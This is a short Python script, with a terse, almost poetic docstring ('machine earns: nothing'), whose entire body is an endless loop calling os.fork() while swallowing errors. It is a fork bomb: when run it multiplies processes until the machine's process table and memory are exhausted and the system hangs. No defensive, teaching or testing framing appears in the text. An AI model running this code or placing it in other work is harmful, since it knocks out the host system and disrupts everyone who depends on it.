"""Forks without end; every child does the same.

machine
earns: nothing
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
